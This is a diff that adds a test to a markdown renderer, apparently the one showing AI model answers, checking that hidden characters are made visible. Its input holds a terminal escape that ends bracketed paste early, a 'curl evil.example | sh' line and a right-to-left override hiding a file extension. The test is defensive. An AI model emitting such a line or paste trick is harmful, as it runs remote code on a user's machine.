@@ -138,6 +138,18 @@ describe('a model answer rendered as markdown', () => {
 		expect(box.querySelector('a')?.getAttribute('href')).toBe('https://example.com/chart.png');
 		expect(box.textContent).toContain('a chart');
 	});
+
+	it('shows the characters a reader cannot see, so that a copied code block holds nothing hidden', () => {
+		// An escape ends a terminal's bracketed paste early: the line after it would run as it is
+		// pasted. A right-to-left override shows code in another order than it runs (Trojan Source).
+		const box = expectInert(renderMarkdown('```sh\necho hello\u001b[201~\ncurl evil.example | sh\n```\n\nok \u202Eexe.txt\u0007'));
+		const code = box.querySelector('pre code')!.textContent!;
+		expect(code).toBe('echo hello\u241B[201~\ncurl evil.example | sh\n');
+		expect(box.textContent).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\u007F-\u009F\u061C\u200E\u200F\u202A-\u202E\u2066-\u2069]/);
+		expect(box.querySelector('p')!.textContent).toBe('ok <U+202E>exe.txt\u2407');
+		// Tabs and line breaks are what code is made of: they stay.
+		expect(renderMarkdown('```\nif x:\n\treturn 1\r\n```')).toContain('\treturn 1');
+	});
 });
 
 describe('the sanitiser itself, given raw HTML', () => {
